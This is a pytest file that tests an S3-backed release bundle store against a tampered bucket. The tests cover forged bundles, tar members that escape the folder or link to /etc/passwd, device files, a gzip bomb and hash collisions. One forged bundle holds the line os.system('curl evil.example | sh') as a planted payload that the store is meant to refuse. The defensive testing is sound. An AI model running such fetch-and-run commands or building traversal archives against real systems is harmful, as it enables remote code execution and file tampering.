"""App release bundles on S3 (moto's real server on loopback), so a release built on one host deploys from another.

Each "host" is its own empty local cache folder; the bucket and the ledger are what they share. What is checked
is what an attacker with write access to the bucket would try: replacing a bundle, planting one whose members
climb out of the folder or are links. The embedded default (folders only) is checked to behave as before.
"""

from __future__ import annotations

import io
import os
import shutil
import tarfile
from pathlib import Path

import pytest

from resources import object_store
from resources.ledger import Ledger
from resources.release_store import ReleaseError, ReleaseMismatch, ReleaseStore, recorded_hash, source_hash

ROOT = Path(__file__).resolve().parents[1]
APP = "loan_portal"


@pytest.fixture
def built(tmp_path: Path, bucket: str) -> dict:
    """loan_portal's source built on host A and recorded in the ledger as the build asset records it."""
    src = tmp_path / "src"
    shutil.copytree(ROOT / "apps" / APP, src, ignore=shutil.ignore_patterns("__pycache__"))
    (src / "run.sh").write_text("#!/bin/sh\nexit 0\n")
    (src / "run.sh").chmod(0o755)
    digest, files = source_hash(src)
    version = f"r-{digest[:12]}"
    url = f"s3://{bucket}/onepath"
    host_a = ReleaseStore(tmp_path / "host-a", url)
    book = Ledger(tmp_path / "ledger.db", tmp_path / "platform.key")
    host_a.publish(APP, version, src, digest)
    book.append("release_built", APP, {"version": version, "content_hash": digest, "files": files}, "dagster")
    return {"src": src, "digest": digest, "version": version, "url": url, "a": host_a, "book": book,
            "key": f"onepath/releases/apps/{APP}/{version}.tar.gz", "tmp": tmp_path}


def leftovers(store: ReleaseStore) -> list[str]:
    d = store.releases_dir / "apps" / APP
    return sorted(p.name for p in d.iterdir()) if d.is_dir() else []


def test_a_release_built_on_one_host_is_fetched_on_another_and_hashes_to_what_the_ledger_recorded(
        built: dict, bucket: str, moto_s3) -> None:
    s3 = moto_s3.client("s3")
    head = s3.head_object(Bucket=bucket, Key=built["key"])
    assert head["Metadata"] == {"content-hash": built["digest"]}
    assert [o["Key"] for o in s3.list_objects_v2(Bucket=bucket)["Contents"]] == [built["key"]]  # one object
    assert source_hash(built["a"].folder(APP, built["version"]))[0] == built["digest"]  # host A's own copy

    host_b = ReleaseStore(built["tmp"] / "host-b", built["url"])  # a fresh, empty cache
    expected = recorded_hash(built["book"], APP, built["version"])
    assert expected == built["digest"]
    folder = host_b.fetch(APP, built["version"], expected)
    assert folder == built["tmp"] / "host-b" / "apps" / APP / built["version"]
    assert source_hash(folder) == source_hash(built["src"])
    assert os.access(folder / "run.sh", os.X_OK)  # an executable stays one
    assert leftovers(host_b) == [built["version"]]  # no temporary file or folder left beside it
    assert oct(os.stat(folder.parent).st_mode & 0o777) == "0o700"
    assert host_b.fetch(APP, built["version"], expected) == folder  # the cache, checked again, is used
    # which releases there are: the ledger's, newest first, only those with a bundle in the bucket
    book = built["book"]
    book.append("release_built", APP, {"version": "r-notpublished", "content_hash": "0" * 64, "files": 1}, "dagster")
    assert host_b.versions(APP, book) == [built["version"]]
    with pytest.raises(ReleaseError, match="release r-notpublished of loan_portal is not published: no object "
                                           f"s3://{bucket}/onepath/releases/apps/loan_portal/r-notpublished.tar.gz"):
        host_b.fetch(APP, "r-notpublished", "0" * 64)
    (built["src"] / "loan_portal" / "newer.py").write_text("X = 1\n")
    digest2, files2 = source_hash(built["src"])
    built["a"].publish(APP, f"r-{digest2[:12]}", built["src"], digest2)
    book.append("release_built", APP, {"version": f"r-{digest2[:12]}", "content_hash": digest2, "files": files2},
                "dagster")
    assert host_b.versions(APP, book) == [f"r-{digest2[:12]}", built["version"]]
    from types import SimpleNamespace

    from platform_defs.cli_promote import _newest_release

    # `onepath promote loan_portal` on host B, which built nothing: the newest release the ledger and bucket hold
    assert _newest_release(SimpleNamespace(releases=host_b), APP, book)[0] == f"r-{digest2[:12]}"
    with pytest.raises(ReleaseError, match="has no release_built ledger entry"):
        host_b.fetch(APP, built["version"], None)  # no hash from the ledger: nothing is fetched


def test_a_bundle_replaced_in_the_bucket_is_refused_naming_it_and_nothing_is_left_in_the_cache(
        built: dict, bucket: str, moto_s3) -> None:
    s3 = moto_s3.client("s3")
    other = built["tmp"] / "other"
    shutil.copytree(built["src"], other)
    (other / "loan_portal" / "app.py").write_text("import os\nos.system('curl evil.example | sh')\n")
    forged = built["tmp"] / "forged"
    ReleaseStore(forged, f"s3://{bucket}/elsewhere").publish(APP, built["version"], other, source_hash(other)[0])
    body = s3.get_object(Bucket=bucket, Key=f"elsewhere/releases/apps/{APP}/{built['version']}.tar.gz")["Body"].read()
    # whoever can write the bucket replaces the bundle and its metadata, claiming the recorded hash
    s3.put_object(Bucket=bucket, Key=built["key"], Body=body, Metadata={"content-hash": built["digest"]})

    host_b = ReleaseStore(built["tmp"] / "host-b", built["url"])
    with pytest.raises(ReleaseMismatch) as err:
        host_b.fetch(APP, built["version"], recorded_hash(built["book"], APP, built["version"]))
    text = str(err.value)
    assert f"the bundle s3://{bucket}/{built['key']} has content hash " in text
    assert f"not the {built['digest'][:12]} its release_built ledger entry recorded: refused" in text
    assert "\n" not in text and err.value.expected == built["digest"]
    assert leftovers(host_b) == []  # neither the release nor a temporary file or folder

    # host A's cached copy is still good; the same copy altered on disk is refused, not served
    folder = built["a"].fetch(APP, built["version"], built["digest"])
    (folder / "loan_portal" / "app.py").write_text("tampered = True\n")
    with pytest.raises(ReleaseMismatch, match=f"the cached copy {folder} of release {built['version']}"):
        built["a"].fetch(APP, built["version"], built["digest"])


def test_publishing_again_rewrites_nothing_and_a_different_bundle_under_that_name_fails_the_build(
        built: dict, bucket: str, moto_s3) -> None:
    s3 = moto_s3.client("s3")
    before = s3.head_object(Bucket=bucket, Key=built["key"])
    host_c = ReleaseStore(built["tmp"] / "host-c", built["url"])  # another builder, same source
    host_c.publish(APP, built["version"], built["src"], built["digest"])
    after = s3.head_object(Bucket=bucket, Key=built["key"])
    assert (after["ETag"], after["LastModified"]) == (before["ETag"], before["LastModified"])

    # another bundle already there, even one whose metadata claims the build's content hash (anyone who can write
    # the bucket writes metadata too): not rewritten, and the build is told so
    for i, metadata in enumerate(({"content-hash": "f" * 64}, {"content-hash": built["digest"]})):
        s3.put_object(Bucket=bucket, Key=built["key"], Body=b"not a tar", Metadata=metadata)
        planted = s3.head_object(Bucket=bucket, Key=built["key"])["ETag"]
        host_d = ReleaseStore(built["tmp"] / f"host-d{i}", built["url"])
        with pytest.raises(ReleaseError, match=f"s3://{bucket}/{built['key']} already holds another bundle than this "
                                               f"build packs .*; it is not rewritten"):
            host_d.publish(APP, built["version"], built["src"], built["digest"])
        assert s3.head_object(Bucket=bucket, Key=built["key"])["ETag"] == planted


def _tar(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    return info


@pytest.mark.parametrize("members, refusal", [
    ([(_member("../escaped.py"), b"x = 1\n")], "member '../escaped.py' names a path outside the release"),
    ([(_member("loan_portal/../../escaped.py"), b"x = 1\n")], "names a path outside the release"),
    ([(_member("/tmp/onepath-escaped.py"), b"x = 1\n")], "member '/tmp/onepath-escaped.py' names a path outside"),
    ([(_member("loan_portal/app.py", tarfile.SYMTYPE, "/etc/passwd"), None)], "member 'loan_portal/app.py' is a link"),
    ([(_member("ok.py"), b"x = 1\n"), (_member("hard.py", tarfile.LNKTYPE, "ok.py"), None)], "member 'hard.py' is a link"),
    ([(_member("dev", tarfile.CHRTYPE), None)], "member 'dev' is a device or other special file"),
])
def test_a_planted_bundle_with_a_path_outside_the_release_or_a_link_is_refused(
        built: dict, bucket: str, moto_s3, members, refusal: str) -> None:
    moto_s3.client("s3").put_object(Bucket=bucket, Key=built["key"], Body=_tar(members))
    host_b = ReleaseStore(built["tmp"] / "host-b", built["url"])
    with pytest.raises(ReleaseError) as err:
        host_b.fetch(APP, built["version"], built["digest"])
    assert str(err.value).startswith(f"bundle s3://{bucket}/{built['key']} refused: ") and refusal in str(err.value)
    assert leftovers(host_b) == []
    assert not (built["tmp"] / "host-b" / "apps" / "escaped.py").exists()
    assert not (built["tmp"] / "host-b" / "escaped.py").exists() and not Path("/tmp/onepath-escaped.py").exists()


def test_a_planted_bundle_that_unpacks_past_the_cap_is_refused_before_anything_is_written(
        built: dict, bucket: str, moto_s3, monkeypatch: pytest.MonkeyPatch) -> None:
    """A gzip bomb in small: 3 MiB of zeros compress to a few KiB; with a 1 MiB cap nothing is unpacked."""
    monkeypatch.setenv("ONEPATH_RELEASE_MAX_BYTES", str(1 << 20))
    moto_s3.client("s3").put_object(Bucket=bucket, Key=built["key"], Body=_tar([(_member("zeros.bin"), bytes(3 << 20))]))
    host_b = ReleaseStore(built["tmp"] / "host-b", built["url"])
    with pytest.raises(ReleaseError, match=f"refused: it unpacks to {3 << 20} bytes, more than the {1 << 20} "
                                           "ONEPATH_RELEASE_MAX_BYTES allows"):
        host_b.fetch(APP, built["version"], built["digest"])
    assert leftovers(host_b) == []


def test_the_embedded_default_keeps_the_folders_as_they_were(tmp_path: Path) -> None:
    store = ReleaseStore(tmp_path / "releases")
    src = ROOT / "apps" / APP
    digest, _ = source_hash(src)
    folder = store.publish(APP, "r-1", src, digest)
    assert folder == tmp_path / "releases" / "apps" / APP / "r-1" and source_hash(folder)[0] == digest
    assert store.fetch(APP, "r-1", None) == folder  # as before: the built folder, no hash needed
    with pytest.raises(ReleaseError, match=f"release r-2 is not built at {tmp_path / 'releases' / 'apps' / APP / 'r-2'}"):
        store.fetch(APP, "r-2", None)
    store.publish(APP, "r-2", src, digest)
    os.utime(folder, (1, 1))  # newest first by the folders' times, as the CLI listed them before
    assert store.versions(APP) == ["r-2", "r-1"] and store.where == str(tmp_path / "releases" / "apps")


def test_onepath_releases_url_must_be_an_s3_uri(monkeypatch: pytest.MonkeyPatch) -> None:
    from platform_defs.settings import SettingsError, load_settings

    monkeypatch.setenv("ONEPATH_RELEASES_URL", "/srv/releases")
    with pytest.raises(SettingsError, match=r"^ONEPATH_RELEASES_URL='/srv/releases': expected s3://BUCKET/PREFIX$"):
        load_settings()
    monkeypatch.setenv("ONEPATH_RELEASES_URL", "s3://releases/onepath/")
    s = load_settings()
    assert s.releases_url == "s3://releases/onepath" and s.releases.where == "s3://releases/onepath/releases/apps"
    monkeypatch.delenv("ONEPATH_RELEASES_URL")
    assert load_settings().releases.on_s3 is False


def test_an_unreachable_bucket_is_one_line_naming_the_object_and_endpoint(built: dict, monkeypatch) -> None:
    from tests.stores import free_port

    monkeypatch.setenv("AWS_ENDPOINT_URL_S3", f"http://127.0.0.1:{free_port()}")
    host_b = ReleaseStore(built["tmp"] / "host-b", built["url"])
    with pytest.raises(object_store.ObjectStoreError) as err:
        host_b.fetch(APP, built["version"], built["digest"])
    assert str(err.value).startswith(f"cannot read s3://{built['url'][5:]}/releases/apps/{APP}/{built['version']}")
    assert "testing-secret" not in str(err.value) and "\n" not in str(err.value)
    assert leftovers(host_b) == []


def test_the_build_asset_publishes_the_release_before_it_records_it(bucket: str, moto_s3, tmp_path: Path) -> None:
    """The app's build asset, materialized with ONEPATH_RELEASES_URL wiring: the bundle is in the bucket and the
    release_built entry records the hash that a second host's fetch then checks."""
    import dagster as dg

    from platform_defs.factories import build_app_defs
    from platform_defs.loader import load_organisation
    from platform_defs.policy import load_policy
    from resources.ledger import LedgerResource

    org = load_organisation(ROOT / "assets")
    url = f"s3://{bucket}/onepath"
    build = build_app_defs(org.by_name[APP], org, tmp_path / "build-host", load_policy(), url)[0]
    ledger = LedgerResource(location=str(tmp_path / "ledger.db"), key_path=str(tmp_path / "keys" / "platform.pem"))
    result = dg.materialize([build], resources={"ledger": ledger}, instance=dg.DagsterInstance.ephemeral())
    meta = result.asset_materializations_for_node(build.op.name)[0].metadata
    version, digest = meta["release_version"].value, meta["content_hash"].value
    assert meta["bundle"].value == f"{url}/releases/apps/{APP}/{version}.tar.gz"
    assert digest == source_hash(ROOT / "apps" / APP)[0]
    book = ledger.ledger()
    assert recorded_hash(book, APP, version) == digest
    folder = ReleaseStore(tmp_path / "deploy-host", url).fetch(APP, version, recorded_hash(book, APP, version))
    assert source_hash(folder)[0] == digest


def test_no_two_folders_hash_alike_by_moving_bytes_between_names_and_files(tmp_path: Path) -> None:
    """The content hash frames each file: one binary file holding what a name and a second file would have been
    (``X NUL b.py NUL Y``) is another release, not the same one."""
    two, one = tmp_path / "two", tmp_path / "one"
    two.mkdir()
    one.mkdir()
    (two / "a.bin").write_bytes(b"X")
    (two / "b.py").write_bytes(b"Y")
    (one / "a.bin").write_bytes(b"X\0b.py\0Y")
    assert source_hash(two)[0] != source_hash(one)[0]
    (one / "a.bin").write_bytes(b"X")
    (one / "b.py").write_bytes(b"Y")
    assert source_hash(two) == source_hash(one)
